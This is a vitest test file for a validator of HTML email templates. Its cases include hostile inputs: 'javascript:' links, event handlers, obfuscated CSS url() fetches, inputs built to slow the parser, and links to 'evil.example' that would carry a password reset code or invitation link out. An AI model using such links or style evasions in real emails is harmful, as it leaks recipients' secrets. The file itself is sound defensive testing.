import { describe, expect, it } from 'vitest';
import { faultsOfMarkup } from './markup.ts';

const messagesOf = (html: string) => faultsOfMarkup(html).map(({ message }) => message);

describe('the markup of a letter', () => {
  it.each([
    '<p>Dear {{supplier.name}},<br/>thank you<BR /></p>',
    '<a href="{{po.link}}">here</a> <a href=https://quay.example/a/b>there</a>',
    '<td align = \'right\' width="50%" >1 &lt; 2</td >',
    '<p style="color:#1d1f27; border:1px solid rgb(29, 31, 39)">x</p>',
    `<p style="font:bold 12px/1.5 'Segoe UI', Arial !important; margin:-4px">x</p>`,
  ])('may be %s', (html) => {
    expect(messagesOf(html)).toEqual([]);
  });

  it.each([
    ['a < b', "There is a '<' or '>' outside a tag."],
    ['b>', "There is a '<' or '>' outside a tag."],
    ['<p>>', "There is a '<' or '>' outside a tag."],
    ['<p align="<">', "There is a '<' or '>' outside a tag."],
    ['<!-- x -->', "There is a '<' or '>' outside a tag."],
    ['<script>', 'An email must not contain <script>.'],
    ['<IMG align=left>', 'An email must not contain <img>.'],
    ['<p onclick="x">', "An email must not contain the attribute 'onclick'."],
    ['<p/onclick=x>', "'/onclick=x' cannot be read in a tag."],
    ['<p"x">', `'"x"' cannot be read in a tag.`],
    ['<p align="left>', `'align="left' cannot be read in a tag.`],
    ['<p align>', "'align' cannot be read in a tag."],
    ['<p align=left =x>', "'=x' cannot be read in a tag."],
    [
      '<a href="javascript:x">',
      'Every link must start with https or be a variable, such as {{po.link}}.',
    ],
    ['<p width={{po.notes}}>', "Put '{{po.notes}}' in quotes inside a tag."],
    ['<p><b>x</p></b>', '</p> has no opening tag.'],
    ['<div>', '<div> is not closed.'],
    ['</div><div>', '</div> has no opening tag.'],
    [
      `<p align="{{#if a}}" valign='{{/if}}" style=x'>`,
      'Do not use {{#if}} or {{#each}} inside a tag.',
    ],
  ])('must not be %s', (html, fault) => {
    expect(messagesOf(html)).toContain(fault);
  });

  it.each([
    'background:url(//e)',
    'background:u&#114;l(//e)',
    'background:u{{x}}rl(//e)',
    'background:image-set(1x)',
    'background:u\\72l(//e)',
    'color:{{po.notes}}',
    'color:rgb(url(//e))',
    '@import x',
  ])('fetches nothing by a style: %s', (style) => {
    expect(messagesOf(`<p style="${style}"></p>`)).toEqual([
      expect.stringMatching(/^A style may contain only plain words/),
    ]);
  });

  it('fetches nothing by a style that is whole only when it is rendered', () => {
    const [fault] = messagesOf('<p style="background:u{{#if a}}{{/if}}rl(//e)">');
    expect(fault).toBe('Do not use {{#if}} or {{#each}} inside a tag.');
  });
});

describe('a hostile letter', () => {
  const shapes: [string, (length: number) => string][] = [
    ['blanks in a tag', (length) => `<a${' '.repeat(length)}<`],
    ['a tag of letters', (length) => `<a ${'a'.repeat(length)}>`],
    ['many tags that begin', (length) => '<'.repeat(length)],
    ['many tags that end', (length) => '>'.repeat(length)],
    ['many quotes', (length) => `<a ${'"'.repeat(length)}>`],
    ['many values', (length) => `<a ${'a="'.repeat(length / 3)}>`],
    ['many blanks between values', (length) => `<a ${'a =  '.repeat(length / 5)}>`],
    ['many colours', (length) => `<a style="${'rgb('.repeat(length / 4)}">`],
    ['many variables', (length) => `<a style="${'{{ '.repeat(length / 3)}">`],
  ];

  // In time that grows with the square of the length, each would take minutes.
  it.each(shapes)('of %s is read once, however long it is', (_, shape) => {
    const start = performance.now();
    faultsOfMarkup(shape(300_000));
    expect(performance.now() - start).toBeLessThan(10_000);
  });
});

it.each([
  '<a href="https://evil.example/?c=\n{{reset.code}}">Cancel</a>',
  '<a href="https://evil.example/?c={{ reset.code }}">Cancel</a>',
  '<a href="mailto:x@evil.example?body={{reset.code}}">Cancel</a>',
  '<a href="https://evil.example/#{{invitation.link}}">Decline</a>',
])('lets no code and no link of ours leave with a click: %j', (html) => {
  expect(faultsOfMarkup(html)).toMatchObject([
    { message: expect.stringMatching(/must not contain a code/) },
  ]);
});
